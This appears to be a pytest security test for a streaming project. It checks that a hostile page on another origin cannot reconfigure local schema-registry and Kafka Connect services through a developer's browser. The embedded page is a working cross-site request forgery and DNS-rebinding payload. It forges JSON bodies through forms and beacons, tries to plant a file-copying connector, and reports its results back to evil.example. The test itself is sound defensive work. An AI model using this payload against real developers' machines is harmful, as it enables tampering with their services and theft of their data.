"""A web page of somebody else does nothing to satellites through the browser of a developer who reads it."""

import json
import queue
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from tests.support.browser import browser_at
from tests.support.connect_process import ConnectProcess
from tests.support.ottla_node import OttlaNode
from tests.support.registry_process import RegistryProcess

from ottla.testing.ports import free_port

PATIENCE_S = 120
ARRIVES_AT_LEAST = 30
PAGE = """<!doctype html><iframe name="hidden"></iframe><script>
const targets = TARGETS;
async function ask(url, options) {
  try {
    const answer = await fetch(url, options);
    return answer.type + " " + answer.status + " " + await answer.text();
  } catch (error) { return "blocked"; }
}
async function attack() {
  const seen = [];
  for (const [method, url, body] of targets) {
    for (const type of ["", "text/plain", "application/x-www-form-urlencoded", "application/json"]) {
      for (const mode of ["no-cors", "cors"]) {
        const blob = new Blob([body], type ? {type} : {});
        seen.push(await ask(url, {method, mode, body: blob, credentials: "include"}));
      }
    }
    seen.push(await ask(url, {mode: "no-cors"}), await ask(url, {}));
    seen.push(await ask(url, {method, mode: "no-cors"}));
    navigator.sendBeacon(url, new Blob([body]));
    const form = document.createElement("form");
    Object.assign(form, {action: url, method: "POST", enctype: "text/plain", target: "hidden"});
    // The text that it sends is the body again: what comes before `=`, and what comes after.
    form.append(Object.assign(document.createElement("input"), {
      name: body.slice(0, -1) + ', "x": "', value: '"}'}));
    document.body.append(form);
    const sent = new Promise(done => document.querySelector("iframe").onload = done);
    form.submit();
    await sent;
  }
  await fetch("/done", {method: "POST", body: JSON.stringify(seen)});
}
addEventListener("load", attack);
</script><body></body>"""


@contextmanager
def _page(content: str) -> Iterator[tuple[int, "queue.Queue[list[str]]"]]:
    """Serve a page, and give what it reports."""
    reports: queue.Queue[list[str]] = queue.Queue()

    class Serving(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(content.encode())

        def do_POST(self) -> None:
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", free_port()), Serving) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port, reports
        server.shutdown()


def _refused(satellite: Any) -> int:
    """Return how many requests were refused before anything was done."""
    text = satellite.ask("GET", "/metrics", Accept="*/*")[1]
    return sum(
        int(float(line.rpartition(" ")[2]))
        for line in str(text).splitlines()
        if line.startswith("ottla_satellite_requests_total") and 'status="403"' in line
    )


@pytest.mark.thorough(guard="tests/unit/satellite/test_app.py")
def test_a_page_of_another_origin_changes_and_learns_nothing(node: OttlaNode, tmp_path: Path) -> None:
    copied = tmp_path / "copied"
    connector = {
        "connector.class": "FileStreamSink",
        "topics": "any",
        "file": str(copied),
        "name": "planted",
    }
    with (
        RegistryProcess(node.bootstrap, "--topic", "_pages", "--group", "pages") as registry,
        ConnectProcess(node.bootstrap) as connect,
    ):
        assert registry.ask("PUT", "/config/known", {"compatibility": "NONE"})[0] == 200
        targets = []
        for name in ("127.0.0.1", "localhost", "rebound.example"):
            schemas, workers = f"http://{name}:{registry.port}", f"http://{name}:{connect.port}"
            targets += [
                ("POST", f"{schemas}/subjects/planted/versions", json.dumps({"schema": '"int"'})),
                ("PUT", f"{schemas}/config", json.dumps({"compatibility": "NONE"})),
                ("DELETE", f"{schemas}/config/known", "{}"),
                ("POST", f"{workers}/connectors", json.dumps({"name": "planted", "config": connector})),
                ("PUT", f"{workers}/connectors/planted/config", json.dumps(connector)),
            ]
        with _page(PAGE.replace("TARGETS", json.dumps(targets))) as (port, reports):
            url = f"http://evil.example:{port}/"
            with browser_at(url, tmp_path / "profile", "evil.example,rebound.example"):
                seen = reports.get(timeout=PATIENCE_S)
        # What a browser sends without asking the server first has arrived, and was refused.
        assert min(_refused(registry), _refused(connect)) >= ARRIVES_AT_LEAST
        assert {text for text in seen if not text.startswith("opaque 0")} == {"blocked"}
        assert registry.ask("GET", "/subjects")[1] == []
        assert registry.ask("GET", "/config")[1] == {"compatibilityLevel": "BACKWARD"}
        assert registry.ask("GET", "/config/known")[1] == {"compatibilityLevel": "NONE"}
        assert connect.ask("GET", "/connectors")[1] == []
        assert not copied.exists()
